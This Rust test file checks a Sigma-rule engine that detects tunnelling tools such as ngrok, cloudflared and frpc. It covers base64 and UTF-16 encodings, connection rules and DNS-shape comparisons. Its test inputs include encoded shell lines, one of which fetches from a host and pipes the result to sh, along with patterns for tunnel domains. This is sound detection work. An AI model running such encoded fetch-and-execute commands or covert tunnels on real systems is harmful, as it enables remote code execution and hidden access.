//! The Sigma constructs SigmaHQ's tunnel rules use (written here in our own rules): encodings,
//! network_connection rules on connections (addresses, ports, `cidr`), Sysmon fields no sensor
//! reports, filter-style conditions; each with its refusals.

mod common;

use common::*;
use tunnelwatch_engine::{
    event::{Event, Platform},
    ruleset::{LoadOptions, RuleSet},
};

fn proc_rule(detection: &str) -> String {
    format!(
        "title: T\nid: 11111111-1111-1111-1111-111111111111\nlogsource:\n  category: process_creation\ndetection:\n{detection}"
    )
}

fn net_rule(product: &str, detection: &str) -> String {
    format!(
        "title: N\nid: 22222222-2222-2222-2222-222222222222\nlogsource:\n  category: network_connection\n  product: {product}\ndetection:\n{detection}"
    )
}

fn hits(detection: &str, event: &Event) -> bool {
    !fired(&engine_of(&proc_rule(detection)), event).is_empty()
}

fn cmd(command_line: &str) -> Event {
    exec("/usr/bin/tool", command_line)
}

fn load_err(yaml: &str) -> String {
    RuleSet::from_str("rules/x.yml", yaml)
        .map(|_| ())
        .unwrap_err()
        .to_string()
}

#[test]
fn base64offset_finds_a_value_at_any_offset() {
    let d = "  s:\n    CommandLine|base64offset|contains: 'ngrok '\n  condition: s\n";
    // base64("curl http://x | sh; ngrok http 80"), base64("xngrok tcp 22"), base64("ngrok").
    for (line, want) in [
        (
            "bash -c 'echo Y3VybCBodHRwOi8veCB8IHNoOyBuZ3JvayBodHRwIDgw | base64 -d | sh'",
            true,
        ),
        ("echo eG5ncm9rIHRjcCAyMg== | base64 -d", true),
        // "ngrok" alone lacks the space.
        ("echo bmdyb2s= | base64 -d", false),
        // Base64 is case-sensitive: the same text in other case is other data.
        ("echo EG5NCM9RIHRJCCAYMG== | base64 -d", false),
        ("ngrok http 80", false),
    ] {
        assert_eq!(hits(d, &cmd(line)), want, "{line}");
    }
}

#[test]
fn base64_matches_the_whole_encoding() {
    let d = "  s:\n    CommandLine|base64|contains: ngrok\n  condition: s\n";
    assert!(hits(d, &cmd("x bmdyb2s= y")));
    assert!(!hits(d, &cmd("x BMDYB2S= y")));
    // Without contains, the value must be exactly the encoding.
    let d = "  s:\n    CommandLine|base64: ngrok\n  condition: s\n";
    assert!(hits(d, &cmd("bmdyb2s=")));
    assert!(!hits(d, &cmd("x bmdyb2s=")));
}

#[test]
fn wide_and_utf16_encode_before_base64() {
    // PowerShell -EncodedCommand is Base64 of UTF-16LE.
    let line = "powershell.exe -enc UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAG4AZwByAG8AawAgAC0AQQByAGcAdQBtAGUAbgB0AEwAaQBzAHQAIAAiAHQAYwBwACAAMwAzADgAOQAiAA==";
    for modifier in ["wide", "utf16le"] {
        let d = format!(
            "  s:\n    CommandLine|{modifier}|base64offset|contains: 'ngrok -Arg'\n  condition: s\n"
        );
        assert!(hits(&d, &cmd(line)), "{modifier}");
        // Not the UTF-8 encoding.
        let d = "  s:\n    CommandLine|base64offset|contains: 'ngrok -Arg'\n  condition: s\n";
        assert!(!hits(d, &cmd(line)));
    }
    let d = "  s:\n    CommandLine|utf16be|base64|contains: ngrok\n  condition: s\n";
    assert!(hits(d, &cmd("x AG4AZwByAG8Aaw== y")));
    let d = "  s:\n    CommandLine|utf16|base64|contains: ngrok\n  condition: s\n";
    assert!(hits(d, &cmd("x //5uAGcAcgBvAGsA y")));
    // windash first, then the encoding, on each variant.
    let d = "  s:\n    CommandLine|windash|base64offset|contains: ' -x ngrok'\n  condition: s\n";
    assert!(hits(d, &cmd("echo IC94IG5ncm9r")), "base64(' /x ngrok')");
}

#[test]
fn encoding_refusals() {
    let cases: &[(&str, &str)] = &[
        (
            "  s:\n    CommandLine|base64offset: ngrok\n  condition: s\n",
            "rules/x.yml:7: modifier 'base64offset' on field 'CommandLine' needs 'contains' (the encoded value sits inside a longer Base64 string)",
        ),
        (
            "  s:\n    CommandLine|wide|contains: ngrok\n  condition: s\n",
            "rules/x.yml:7: modifier 'wide' on field 'CommandLine' must be followed by 'base64' or 'base64offset': event fields are text, not UTF-16 bytes",
        ),
        (
            "  s:\n    CommandLine|base64|contains: 'ngr*k'\n  condition: s\n",
            "rules/x.yml:7: modifier 'base64' cannot encode a value with wildcards (* or ?)",
        ),
        (
            "  s:\n    CommandLine|base64offset|contains: a\n  condition: s\n",
            "rules/x.yml:7: the value is too short for modifier 'base64offset' (an encoded variant is empty)",
        ),
        (
            "  s:\n    CommandLine|base64|base64offset|contains: ab\n  condition: s\n",
            "rules/x.yml:7: modifiers 'base64' and 'base64offset' on field 'CommandLine' conflict",
        ),
        (
            "  s:\n    CommandLine|wide|utf16be|base64: ab\n  condition: s\n",
            "rules/x.yml:7: modifiers 'wide' and 'utf16be' on field 'CommandLine' conflict",
        ),
        (
            "  s:\n    CommandLine|base64|windash|contains: ab\n  condition: s\n",
            "rules/x.yml:7: modifier 'windash' must come before the encoding modifiers",
        ),
        (
            "  s:\n    CommandLine|re|base64: ab\n  condition: s\n",
            "rules/x.yml:7: modifier 're' on field 'CommandLine' cannot be combined with 'base64'",
        ),
    ];
    for (detection, want) in cases {
        assert_eq!(load_err(&proc_rule(detection)), *want, "{detection}");
    }
}

#[test]
fn network_connection_rules_read_connections() {
    let yaml = net_rule(
        "windows",
        "  selection:\n    Initiated: 'true'\n    DestinationHostname|endswith:\n      - '.ngrok-free.app'\n      - '.ngrok.io'\n  condition: selection\n",
    );
    let set = RuleSet::from_str("rules/n.yml", &yaml).unwrap();
    assert_eq!(
        set.rules()[0].logsource.category.as_deref(),
        Some("network_connection")
    );
    let engine = engine_of(&yaml);
    let win = |e: Event| on(Platform::Windows, e);
    assert_eq!(
        fired(&engine, &win(connection("3.1.2.3:443", "x.ngrok-free.app"))).len(),
        1
    );
    assert_eq!(
        fired(&engine, &win(connection("3.1.2.3:443", "A.NGROK.IO"))).len(),
        1
    );
    // A lookup is not a connection; other names, other platforms, process events.
    assert!(fired(&engine, &win(dns_query("x.ngrok.io"))).is_empty());
    assert!(fired(&engine, &win(connection("3.1.2.3:443", "example.com"))).is_empty());
    assert!(fired(&engine, &connection("3.1.2.3:443", "x.ngrok.io")).is_empty());
    assert!(
        fired(
            &engine,
            &exec_on(Platform::Windows, r"C:\x.exe", "x.ngrok.io")
        )
        .is_empty()
    );
    // Every connection reported is initiated here.
    let not_initiated = net_rule(
        "linux",
        "  s:\n    Initiated: 'false'\n    DestinationHostname|contains: ngrok\n  condition: s\n",
    );
    assert!(
        fired(
            &engine_of(&not_initiated),
            &connection("1.2.3.4:443", "x.ngrok.io")
        )
        .is_empty()
    );
    // The connecting process's fields.
    let by_process = net_rule(
        "linux",
        "  s:\n    Image|endswith: /curl\n    User: alice\n    DestinationHostname|contains: tunnel\n  condition: s\n",
    );
    assert_eq!(
        fired(
            &engine_of(&by_process),
            &connection("1.2.3.4:443", "tunnel.us.ngrok.com")
        )
        .len(),
        1
    );
}

#[test]
fn network_connection_addresses_ports_and_cidr() {
    let rule = |d: &str| engine_of(&net_rule("linux", d));
    let port = rule("  s:\n    DestinationPort: 7844\n    Protocol: udp\n  condition: s\n");
    let Event::Connection(mut c) = connection("198.41.192.7:7844", "") else {
        unreachable!()
    };
    assert!(
        fired(&port, &Event::Connection(c.clone())).is_empty(),
        "tcp"
    );
    c.transport = "udp";
    assert_eq!(fired(&port, &Event::Connection(c.clone())).len(), 1);
    let cidr = rule(
        "  s:\n    DestinationIp|cidr:\n      - 198.41.192.0/20\n      - '2606:4700:a0::/44'\n  condition: s\n",
    );
    assert_eq!(fired(&cidr, &Event::Connection(c.clone())).len(), 1);
    for (dest, want) in [
        ("198.41.207.255:7844", true),
        ("198.41.208.0:7844", false),
        ("[2606:4700:a1::1]:7844", true),
        ("[2606:4700:b0::1]:7844", false),
        // A dual-stack socket's view of an IPv4 peer.
        ("[::ffff:198.41.192.9]:443", true),
    ] {
        c.dest = dest.parse().unwrap();
        assert_eq!(
            !fired(&cidr, &Event::Connection(c.clone())).is_empty(),
            want,
            "{dest}"
        );
    }
    // A single address is a network of one; the source and IPv6 flags.
    let src = rule(
        "  s:\n    SourceIp|cidr: 10.0.0.5\n    SourcePort: 40000\n    DestinationIsIpv6: 'true'\n  condition: s\n",
    );
    c.dest = "[2606:4700::1]:443".parse().unwrap();
    assert_eq!(fired(&src, &Event::Connection(c.clone())).len(), 1);
    c.src = Some("10.0.0.6:40000".parse().unwrap());
    assert!(fired(&src, &Event::Connection(c)).is_empty());
}

#[test]
fn network_connection_refuses_port_names() {
    for field in ["DestinationPortName", "SourcePortName"] {
        let yaml = net_rule(
            "windows",
            &format!("  s:\n    {field}: https\n  condition: s\n"),
        );
        assert_eq!(
            load_err(&yaml),
            format!(
                "rules/x.yml:8: field '{field}' of logsource category 'network_connection' is not available: tunnelwatch reports ports by number, not by service name"
            )
        );
    }
    // Other unknown names are unknown.
    let yaml = net_rule("windows", "  s:\n    QueryName: x\n  condition: s\n");
    assert_eq!(
        load_err(&yaml),
        "rules/x.yml:8: unknown field 'QueryName' for logsource category 'network_connection'"
    );
}

#[test]
fn unreported_sysmon_fields_load_never_match_and_are_noticed() {
    let yaml = proc_rule(
        "  selection_img:\n    Image|endswith: '\\frpc.exe'\n  selection_hashes:\n    Hashes|contains: 'MD5=7D9C'\n  selection_product:\n    - Product: SharpX\n    - Company: X\n    - Description: Y\n  condition: 1 of selection_*\n",
    )
    .replace("category: process_creation", "category: process_creation\n  product: windows");
    let loaded =
        RuleSet::from_sources([("rules/h.yml", yaml.as_str())], LoadOptions::default()).unwrap();
    let rule = &loaded.rules.rules()[0];
    assert_eq!(
        rule.unreported_fields,
        ["Hashes", "Product", "Company", "Description"]
    );
    assert_eq!(loaded.notices.len(), 4);
    assert_eq!(
        loaded.notices[0].to_string(),
        "rules/h.yml:1: rule 'T' names field 'Hashes', which no sensor reports yet: its selections on it never match"
    );
    let engine = engine_of(&yaml);
    let w = |path: &str| exec_on(Platform::Windows, path, "x");
    assert_eq!(fired(&engine, &w(r"C:\t\frpc.exe")).len(), 1);
    assert!(fired(&engine, &w(r"C:\t\other.exe")).is_empty());
    // `not` over an absent field holds.
    let negated = "  s:\n    CommandLine: x\n  f:\n    Hashes|contains: 'SHA256='\n  condition: s and not f\n";
    assert!(hits(negated, &cmd("x")));
}

#[test]
fn sigmahq_style_conditions_and_selections() {
    // `1 of selection*` (no underscore), `all of selection_* and not 1 of filter_main_*`,
    // selections as lists of maps, `OriginalFileName: null` with `endswith`.
    let d = "  selection1:\n    CommandLine|contains: [' tcp 3389', ' tcp 22']\n  selection2:\n    CommandLine|contains|all: [' start ', '--all', '--config', '.yml']\n  selection3:\n    Image|endswith: ngrok\n    CommandLine|contains: [' http ', ' tls ']\n  condition: 1 of selection*\n";
    assert!(hits(d, &cmd("x tcp 3389")));
    assert!(hits(d, &cmd("n start --all --config a.yml")));
    assert!(hits(d, &exec("/opt/ngrok", "ngrok http 80")));
    assert!(!hits(d, &exec("/opt/other", "other http 80")));
    let d = "  selection_img:\n    - Image|endswith: [/cloudflared, '\\cloudflared.exe']\n    - OriginalFileName: cloudflared\n  selection_param:\n    CommandLine|contains: [' --url', ' -url']\n  filter_main_location:\n    Image|startswith: /usr/\n  condition: all of selection_* and not 1 of filter_main_*\n";
    assert!(hits(
        d,
        &exec("/tmp/cloudflared", "cloudflared tunnel --url x")
    ));
    assert!(!hits(
        d,
        &exec("/usr/bin/cloudflared", "cloudflared tunnel --url x")
    ));
    let mut renamed = exec("/tmp/x", "x tunnel --url y");
    if let Event::Process(p) = &mut renamed {
        p.process.original_file_name = "cloudflared".into();
    }
    assert!(hits(d, &renamed));
    let d = "  selection:\n    OriginalFileName: null\n    CommandLine|endswith: '.exe tunnel'\n  condition: selection\n";
    assert!(hits(d, &cmd("c:\\x\\code.exe tunnel")));
    let mut named = cmd("c:\\x\\code.exe tunnel");
    if let Event::Process(p) = &mut named {
        p.process.original_file_name = "code.exe".into();
    }
    assert!(!hits(d, &named));
}

fn dns_rule(detection: &str) -> String {
    format!(
        "title: D\nid: 33333333-3333-3333-3333-333333333333\nlogsource:\n  category: dns_query\ndetection:\n{detection}"
    )
}

#[test]
fn numeric_comparisons_on_the_shape_of_a_query_name() {
    let fires = |detection: &str, name: &str| {
        !fired(&engine_of(&dns_rule(detection)), &dns_query(name)).is_empty()
    };
    let long = "aaaabbbbccccddddeeeeffffgggghhhhiiiijjjj.t.example.co.uk";
    // query_longest_label: 40; query_label_count: 5.
    for (detection, name, want) in [
        ("query_longest_label|gte: 40", long, true),
        ("query_longest_label|gt: 40", long, false),
        ("query_longest_label|lte: 40", long, true),
        ("query_longest_label|lt: 40", long, false),
        ("query_label_count|gte: 5", long, true),
        ("query_label_count|gte: 6", long, false),
        // The longest label: 10 letters four times each, log2(10) = 3.322 bits.
        ("query_entropy|gte: 3.322", long, true),
        ("query_entropy|gt: 3.322", long, false),
        // A number written as a string compares as a number.
        ("query_longest_label|gte: '40'", long, true),
        ("query_registered_domain: example.co.uk", long, true),
        ("query_registered_domain|endswith: .uk", long, true),
        // "example": 2.522 bits.
        ("query_entropy|lt: 2.6", "example.com", true),
        ("query_entropy|gt: 2.6", "example.com", false),
        // A public suffix has no registered domain.
        ("query_registered_domain|exists: true", "co.uk", false),
    ] {
        let d = format!("  s:\n    {detection}\n  condition: s\n");
        assert_eq!(fires(&d, name), want, "{detection} on {name}");
    }
    // Any of several limits; with all, every one.
    let d = "  s:\n    query_longest_label|gte:\n      - 100\n      - 30\n  condition: s\n";
    assert!(fires(d, long));
    // Process ids are numbers too (the test process is 4242).
    assert!(hits(
        "  s:\n    ProcessId|gt: 4000\n  condition: s\n",
        &cmd("x")
    ));
    assert!(!hits(
        "  s:\n    ProcessId|lt: 4000\n  condition: s\n",
        &cmd("x")
    ));
}

#[test]
fn numeric_comparisons_are_refused_where_they_mean_nothing() {
    for (detection, reason) in [
        (
            "query_longest_label|gte: abc",
            "a numeric comparison on field 'query_longest_label' needs a number",
        ),
        (
            "query_longest_label|gte|contains: 3",
            "modifier 'gte' on field 'query_longest_label' cannot be combined with 'contains'",
        ),
        (
            "query: 3.5",
            "bad value for field 'query': floating-point numbers are only supported by 'gt', 'gte', 'lt' and 'lte'",
        ),
    ] {
        let e = load_err(&dns_rule(&format!(
            "  s:\n    {detection}\n  condition: s\n"
        )));
        assert!(e.contains(reason), "{detection}: {e}");
    }
}
